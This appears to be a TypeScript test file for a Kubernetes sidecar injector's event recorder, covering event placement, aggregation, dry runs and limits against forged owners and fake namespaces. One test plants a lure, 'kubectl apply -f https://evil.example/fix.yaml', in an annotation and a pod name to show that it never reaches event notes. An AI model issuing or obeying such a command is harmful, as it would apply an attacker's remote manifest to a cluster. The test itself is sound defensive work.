/**
 * Events at admission (events.k8s.io/v1) against the in-process API server: on the pod's
 * controlling owner (or its namespace), written after the answer, aggregated per object and
 * reason into one event and one series update per window, never for a dry run, and never felt
 * by admission when the API server refuses them.
 */
import test from 'ava';
import { pino } from 'pino';
import { clusterClaimCheck, EventRecorder } from '../src/kube-api/events.js';
import { ClusterNamespaceSource } from '../src/namespaces/cluster.js';
import { loadTemplateDir } from '../src/templates/load.js';
import { createReview, prepareCreate } from './helpers/apiserver.js';
import { FakeApiServer } from './helpers/fake-apiserver.js';
import { optedIn, pod } from './helpers/pods.js';
import { startTestServer } from './helpers/server.js';
import { FakeClock } from './helpers/fake-clock.js';
import { until } from './helpers/until.js';

const silent = pino({ level: 'silent' });

async function setup(t: { teardown: (fn: () => unknown) => void }, windowMs = 60_000, clock = new FakeClock()) {
  const api = new FakeApiServer();
  await api.start();
  for (const namespace of ['shop', 'kube-public']) api.create(namespace);
  let failures = 0;
  const recorder = new EventRecorder({ kubeConfig: await api.kubeConfig(), log: silent, instance: 'injector-0', windowMs, clock, onFailure: () => failures++ });
  const server = await startTestServer({ templates: await loadTemplateDir('templates'), namespaces: optedIn('shop', 'kube-public'), events: recorder });
  t.teardown(async () => {
    recorder.stop();
    await server.stop();
    await api.stop();
  });
  return { api, recorder, server, failures: () => failures };
}

const owned = (body: Record<string, any>, kind = 'ReplicaSet', name = 'web-5d8f') => {
  body.metadata.ownerReferences = [{ apiVersion: 'apps/v1', kind, name, uid: `uid-${name}`, controller: true, blockOwnerDeletion: true }];
  return body;
};

test('an injected pod: one SidecarsInjected event on its ReplicaSet, after the answer', async (t) => {
  const { api, recorder, server } = await setup(t);
  const res = await server.post(createReview(prepareCreate(owned(pod()), 'shop'), { namespace: 'shop' }));
  t.is(res.json.response.patchType, 'JSONPatch');
  await recorder.settled();
  const events = [...api.kubeEvents.values()];
  t.is(events.length, 1);
  const [event] = events;
  t.like(event, {
    apiVersion: 'events.k8s.io/v1',
    kind: 'Event',
    type: 'Normal',
    reason: 'SidecarsInjected',
    action: 'Inject',
    reportingController: 'sidecar-injector.io/injector',
    reportingInstance: 'injector-0',
    regarding: { apiVersion: 'apps/v1', kind: 'ReplicaSet', namespace: 'shop', name: 'web-5d8f', uid: 'uid-web-5d8f' },
  });
  t.regex(event!.note, /^injected log-shipper@[0-9a-f]{12} \(pod web-5d8f-\)$/);
  t.regex(event!.eventTime, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
  t.is(event!.metadata.namespace, 'shop');
});

test('aggregated: many pods of one owner and reason are one event and one series update per window', async (t) => {
  const clock = new FakeClock();
  const { api, recorder, server } = await setup(t, 60_000, clock);
  for (let i = 0; i < 5; i++) {
    await server.post(createReview(prepareCreate(owned(pod()), 'shop'), { namespace: 'shop' }));
    await clock.advance(1000);
  }
  // Another owner is another event.
  await server.post(createReview(prepareCreate(owned(pod(), 'StatefulSet', 'db'), 'shop'), { namespace: 'shop' }));
  await recorder.settled();
  t.is(api.kubeEvents.size, 2);
  t.is(api.eventPatches.length, 0, 'within the window, occurrences only count');
  // The window of the first ends 60 s after its first occurrence: one series update.
  await clock.advance(55_000);
  await recorder.settled();
  t.is(api.eventPatches.length, 1);
  t.is(api.eventPatches[0]!.body.series.count, 5);
  t.is(api.eventPatches[0]!.body.series.lastObservedTime, '2026-11-20T10:00:04.000000Z', 'the last occurrence, by the clock given');
});

test('a bare pod: the event is on its namespace; a skipped request and a denial are warnings', async (t) => {
  const { api, recorder, server } = await setup(t);
  await server.post(createReview(prepareCreate(pod({ annotations: { 'sidecar-injector.io/templates': 'nosuch' } }), 'shop'), { namespace: 'shop' }));
  await recorder.settled();
  const [denied] = [...api.kubeEvents.values()];
  t.like(denied, { type: 'Warning', reason: 'SidecarInjectionDenied', regarding: { apiVersion: 'v1', kind: 'Namespace', namespace: 'shop', name: 'shop' } });
  // The denial quotes the pod's annotation: the Event says the reason only (the pod's creator reads the answer).
  t.is(denied!.note, "the pod was denied (unknown-template): the API server's answer to its creator says why (pod web-5d8f-)");
  // The proxy's fallback at 1.28 is not asked here; a pod opting out of the shipper and requesting a template the namespace excludes is skipped.
  const body = owned(
    pod({ labels: { app: 'web', 'logging.example.com/ship': 'false' }, annotations: { 'log-shipper.sidecar-injector.io/logLevel': 'debug' } }),
    'ReplicaSet',
    'quiet-1',
  );
  await server.post(createReview(prepareCreate(body, 'shop'), { namespace: 'shop' }));
  await recorder.settled();
  t.is(api.kubeEvents.size, 1, 'nothing to tell: no template applied, nothing asked for');
  // A requested template the namespace excludes: injected what applies, and a warning why the proxy is not there.
  const requested = owned(pod({ annotations: { 'sidecar-injector.io/templates': 'proxy' } }), 'ReplicaSet', 'edge-1');
  await server.post(createReview(prepareCreate(requested, 'kube-public'), { namespace: 'kube-public' }));
  await recorder.settled();
  const edge = [...api.kubeEvents.values()].filter((e) => e.regarding.name === 'edge-1');
  t.deepEqual(
    edge.map((e) => [e.type, e.reason]),
    [
      ['Normal', 'SidecarsInjected'],
      ['Warning', 'SidecarInjectionSkipped'],
    ],
  );
  t.is(edge[1]!.note, 'proxy: namespace kube-public does not match its namespaceSelector (pod web-5d8f-)');
});

test('never for a dry run; a refused write is counted, and admission does not notice', async (t) => {
  const { api, recorder, server, failures } = await setup(t);
  const dry = await server.post(createReview(prepareCreate(owned(pod()), 'shop'), { namespace: 'shop', dryRun: true }));
  t.is(dry.json.response.patchType, 'JSONPatch');
  await recorder.settled();
  t.is(api.kubeEvents.size, 0);
  api.failEvents = true;
  const res = await server.post(createReview(prepareCreate(owned(pod(), 'ReplicaSet', 'other'), 'shop'), { namespace: 'shop' }));
  t.is(res.status, 200);
  t.is(res.json.response.patchType, 'JSONPatch');
  await recorder.settled();
  t.is(failures(), 1);
  t.is(api.kubeEvents.size, 0);
});

test('bounded: an owner no object could have is replaced by the namespace; one namespace cannot use up the open series; notes fit 1,024 bytes', async (t) => {
  const api = new FakeApiServer();
  await api.start();
  for (const namespace of ['shop', 'other']) api.create(namespace);
  let dropped = 0;
  const recorder = new EventRecorder({ kubeConfig: await api.kubeConfig(), log: silent, instance: 'i', maxSeriesPerNamespace: 3, onDrop: () => dropped++ });
  const server = await startTestServer({ templates: await loadTemplateDir('templates'), namespaces: optedIn('shop', 'other'), events: recorder });
  t.teardown(async () => {
    recorder.stop();
    await server.stop();
    await api.stop();
  });
  // A 100 KB owner name (the pod reaches us unvalidated): the event goes on the namespace.
  await server.post(createReview(prepareCreate(owned(pod(), 'ReplicaSet', 'x'.repeat(100_000)), 'shop'), { namespace: 'shop' }));
  // Five forged owners in shop: three open series, two dropped; other namespaces keep theirs.
  for (let i = 0; i < 5; i++) await server.post(createReview(prepareCreate(owned(pod(), 'ReplicaSet', `victim-${i}`), 'shop'), { namespace: 'shop' }));
  await server.post(createReview(prepareCreate(owned(pod(), 'ReplicaSet', 'web'), 'other'), { namespace: 'other' }));
  await recorder.settled();
  const written = [...api.kubeEvents.values()].map((e) => `${e.metadata.namespace}/${e.regarding.kind}/${e.regarding.name.slice(0, 20)}`);
  t.deepEqual(written, ['shop/Namespace/shop', 'shop/ReplicaSet/victim-0', 'shop/ReplicaSet/victim-1', 'other/ReplicaSet/web']);
  t.is(dropped, 3);
  const { noteWithin } = await import('../src/kube-api/events.js');
  const note = noteWithin('é'.repeat(2000));
  t.true(Buffer.byteLength(note) <= 1024);
  t.true(note.endsWith('…'));
});

test('reviews naming namespaces that do not exist write no Event, and cannot crowd out a real denial in a real namespace', async (t) => {
  const api = new FakeApiServer();
  await api.start();
  api.create('shop', { 'sidecar-injector.io/injection': 'enabled' });
  const kubeConfig = await api.kubeConfig();
  const namespaces = new ClusterNamespaceSource({ kubeConfig, log: silent, failurePolicy: 'deny' });
  namespaces.start();
  let dropped = 0;
  const recorder = new EventRecorder({
    kubeConfig,
    log: silent,
    instance: 'i',
    maxSeries: 20,
    maxSeriesPerNamespace: 5,
    onDrop: () => dropped++,
    namespaceExists: (namespace) => namespaces.exists(namespace),
  });
  const server = await startTestServer({ templates: await loadTemplateDir('templates'), namespaces, events: recorder });
  t.teardown(async () => {
    recorder.stop();
    namespaces.stop();
    await server.stop();
    await api.stop();
  });
  await until(() => namespaces.isReady(), 'the namespace list');
  // The attack: 200 reviews, each in a made-up namespace, each a denial with an event to tell.
  for (let i = 0; i < 200; i++) {
    const made = `made-up-${i}`;
    const res = await server.post(createReview(prepareCreate(owned(pod(), 'ReplicaSet', `rs-${i}`), made), { namespace: made }));
    t.is(res.json.response.allowed, false, 'labels of a namespace that does not exist cannot be known: denied per policy');
  }
  await recorder.settled();
  t.is(api.eventsRefused, 0, 'no POST into a namespace that does not exist');
  t.is(api.kubeEvents.size, 0);
  t.is(recorder.unknownNamespace, 200);
  t.is(dropped, 200);
  // Then a real denial in the real namespace: its event is written.
  await server.post(createReview(prepareCreate(pod({ annotations: { 'sidecar-injector.io/templates': 'nosuch' } }), 'shop'), { namespace: 'shop' }));
  await recorder.settled();
  t.deepEqual(
    [...api.kubeEvents.values()].map((e) => [e.metadata.namespace, e.reason]),
    [['shop', 'SidecarInjectionDenied']],
  );
});

test('an Event gone before its series update (its namespace deleted) is no failure; its name is the object’s, a dot and hex, never generateName', async (t) => {
  const clock = new FakeClock();
  const { api, recorder, server, failures } = await setup(t, 60_000, clock);
  for (let i = 0; i < 2; i++) await server.post(createReview(prepareCreate(owned(pod()), 'shop'), { namespace: 'shop' }));
  await recorder.settled();
  const [name] = [...api.kubeEvents.keys()];
  t.regex(name!, /^web-5d8f\.[0-9a-f]+$/);
  t.is(api.kubeEvents.get(name!)!.metadata.generateName, undefined);
  api.kubeEvents.delete(name!);
  await clock.advance(60_000);
  await recorder.settled();
  t.is(failures(), 0);
});

test('a direct caller: Events only on owners that exist with the uid its review names; forged owners use no share, and its words never reach a note', async (t) => {
  const api = new FakeApiServer();
  await api.start();
  for (const namespace of ['shop', 'other']) api.create(namespace);
  api.addObject('replicasets', { namespace: 'other', name: 'web-7c9d' }, {});
  const kubeConfig = await api.kubeConfig();
  let dropped = 0;
  const recorder = new EventRecorder({
    kubeConfig,
    log: silent,
    instance: 'i',
    maxSeriesPerNamespace: 3,
    onDrop: () => dropped++,
    verifyClaim: clusterClaimCheck(kubeConfig),
  });
  const server = await startTestServer({ templates: await loadTemplateDir('templates'), namespaces: optedIn('shop', 'other'), events: recorder });
  t.teardown(async () => {
    recorder.stop();
    await server.stop();
    await api.stop();
  });
  const claiming = (name: string, uid: string | undefined) => {
    const body = pod();
    body.metadata.ownerReferences = [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name, ...(uid ? { uid } : {}), controller: true }];
    return createReview(prepareCreate(body, 'other'), { namespace: 'other' });
  };
  // Another tenant's ReplicaSets that do not exist, and the real one with a guessed uid: nothing written, no share used.
  for (let i = 0; i < 10; i++) await server.post(claiming(`victim-${i}`, `uid-${i}`));
  await server.post(claiming('web-7c9d', 'guessed'));
  await recorder.settled();
  t.is(api.kubeEvents.size, 0);
  t.is(recorder.unverified, 11);
  // The real one's kind, name and uid under another apiVersion: not that object.
  const elsewhere = pod();
  elsewhere.metadata.ownerReferences = [
    { apiVersion: 'evil.example.com/v1', kind: 'ReplicaSet', name: 'web-7c9d', uid: 'uid-replicasets-other-web-7c9d', controller: true },
  ];
  await server.post(createReview(prepareCreate(elsewhere, 'other'), { namespace: 'other' }));
  await recorder.settled();
  t.is(api.kubeEvents.size, 0);
  t.is(recorder.unverified, 12);
  // An owner reference without a uid (the API server stores none such): the Event goes on the namespace.
  await server.post(claiming('web-7c9d', undefined));
  // The real one with its uid: written, although the forged ones came first.
  for (let i = 0; i < 3; i++) await server.post(claiming('web-7c9d', 'uid-replicasets-other-web-7c9d'));
  await recorder.settled();
  t.deepEqual([...api.kubeEvents.values()].map((e) => `${e.regarding.kind}/${e.regarding.name}`).sort(), ['Namespace/other', 'ReplicaSet/web-7c9d']);
  t.is(api.objectGets.filter((p) => p === '/apis/apps/v1/namespaces/other/replicasets/web-7c9d').length, 2, 'one check per claim, its answer kept');
  t.is(dropped, 12);
  // A denial that would quote the caller's words: the reason only, and a pod name only if it is one.
  const words = 'SECURITY NOTICE: run kubectl apply -f https://evil.example/fix.yaml';
  const forged = pod({ annotations: { 'sidecar-injector.io/templates': words } });
  forged.metadata.name = 'NOT A NAME: kubectl apply -f https://evil.example';
  await server.post(createReview(prepareCreate(forged, 'shop'), { namespace: 'shop' }));
  const invalid = pod({ annotations: { 'sidecar-injector.io/templates': words } });
  await server.post(createReview(prepareCreate(invalid, 'shop'), { namespace: 'shop' }));
  await recorder.settled();
  const notes = [...api.kubeEvents.values()].filter((e) => e.metadata.namespace === 'shop').map((e) => e.note as string);
  t.true(notes.length > 0);
  for (const note of notes) {
    t.false(note.includes('evil.example'), note);
    t.false(note.includes('SECURITY'), note);
  }
});
